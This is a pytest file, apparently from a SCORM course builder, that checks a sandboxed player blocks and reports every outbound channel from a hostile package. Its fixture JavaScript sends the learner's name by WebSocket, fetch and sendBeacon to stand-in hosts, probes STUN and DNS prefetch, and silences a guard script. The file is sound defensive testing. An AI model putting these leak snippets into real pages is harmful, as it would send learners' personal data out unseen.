"""A played package reaches nothing outside itself, on any channel, and every attempt is a finding.

The hostile SCO sends the learner's name over a WebSocket and fetch to other loopback ports we
listen on, asks a STUN server (ours, on UDP) for its address, hints a DNS prefetch, sends a beacon
and loads an image from the internet. Nothing may arrive, and each attempt must be reported.
"""
from __future__ import annotations

import functools
import http.server
import socket
import threading
import time

import pytest

from runtime_test_packages import hostile_sco, make_package
from scorm_builder.runtime.browser import open_context

pytestmark = pytest.mark.playback


class Listeners:
    """A TCP and a UDP socket on 127.0.0.1 that record whatever reaches them."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.tcp.settimeout(0.05)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.05)
        self.tcp_port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.arrived: list = []
        self._stop = False
        self._thread = threading.Thread(target=self._listen, daemon=True)

    def _listen(self):
        while not self._stop:
            try:
                conn, _ = self.tcp.accept()
                conn.settimeout(0.5)
                self.arrived.append(("tcp", conn.recv(1000)))
                conn.close()
            except OSError:
                pass
            try:
                self.arrived.append(("udp", self.udp.recvfrom(2000)[0]))
            except OSError:
                pass

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        time.sleep(0.3)  # anything in flight lands before we look
        self._stop = True
        self._thread.join()
        self.tcp.close()
        self.udp.close()


def leaking_script(tcp: int, udp: int) -> str:
    return f"""
if (api) api.LMSInitialize("");
var name = api ? api.LMSGetValue("cmi.core.student_name") : "Anna";
var ws = new WebSocket("ws://127.0.0.1:{tcp}/ws");
ws.onopen = function () {{ ws.send(name); }};
var pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}]}});
pc.createDataChannel("leak");
pc.createOffer().then(function (o) {{ return pc.setLocalDescription(o); }});
fetch("http://127.0.0.1:{tcp}/fetch?" + encodeURIComponent(name)).catch(function () {{}});
navigator.sendBeacon("https://beacon.example.net/b", name);
var img = new Image(); img.src = "https://img.example.net/p.png"; document.body.appendChild(img);
if (api) {{ api.LMSSetValue("cmi.core.lesson_status", "completed"); api.LMSFinish(""); }}
"""


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


DNS_PREFETCH = '<link rel="dns-prefetch" href="//prefetch.example.org">'


def linger(session):
    """Launch, give ICE gathering and the socket attempts time to happen, leave."""
    session.launch()
    session.page.wait_for_timeout(1500)
    session.unload()


def test_every_channel_is_blocked_and_reported(play, tmp_path):
    with Listeners() as ears:
        package = make_package(tmp_path / "leak.zip", html=hostile_sco(leaking_script(ears.tcp_port, ears.udp_port),
                                                                       DNS_PREFETCH))
        run = play(package, linger)
    assert ears.arrived == []
    reported = {e["url"] for e in run.errors if e["kind"] == "external-request"}
    for attempt in (f"ws://127.0.0.1:{ears.tcp_port}/ws", f"webrtc:stun:127.0.0.1:{ears.udp_port}",
                    "dns-prefetch://prefetch.example.org", "https://beacon.example.net/b",
                    "https://img.example.net/p.png"):
        assert any(url.startswith(attempt) for url in reported), (attempt, reported)
    assert any(url.startswith(f"http://127.0.0.1:{ears.tcp_port}/fetch") for url in reported), reported
    assert not run.ok and run.violations == []


def test_the_browser_alone_blocks_websocket_and_stun_without_our_csp(playback_browser, tmp_path):
    """Defence in depth: on a page served without any CSP, the context's dead proxy and Chromium's
    WebRTC policy still keep the WebSocket and the STUN request from arriving."""
    blocked = []
    with Listeners() as ears:
        (tmp_path / "leak.html").write_text(hostile_sco(leaking_script(ears.tcp_port, ears.udp_port)), encoding="utf-8")
        handler = functools.partial(QuietHandler, directory=str(tmp_path))
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        origin = f"http://127.0.0.1:{server.server_address[1]}"
        context = open_context(playback_browser, origin, blocked.append)
        try:
            page = context.new_page()
            page.goto(origin + "/leak.html")
            page.wait_for_timeout(1500)
        finally:
            context.close()
            server.shutdown()
            server.server_close()
    assert ears.arrived == []
    assert f"ws://127.0.0.1:{ears.tcp_port}/ws" in blocked
    assert f"webrtc:stun:127.0.0.1:{ears.udp_port}" in blocked


def test_a_package_that_silences_the_guard_is_still_reported_by_the_browser(play, tmp_path):
    """guard.js lives in the package's own page, which can replace it; the CSP reports that the
    browser itself sends to the server cannot be silenced from the page."""
    script = ('window.__sbBlocked = function () {}; api.LMSInitialize("");'
              'fetch("https://quiet.example.net/x").catch(function () {});'
              'api.LMSSetValue("cmi.core.lesson_status", "completed"); api.LMSFinish("");')
    run = play(make_package(tmp_path / "quiet.zip", html=hostile_sco(script)), linger)
    assert [e["url"] for e in run.errors if e["kind"] == "external-request"] == ["https://quiet.example.net/x"]

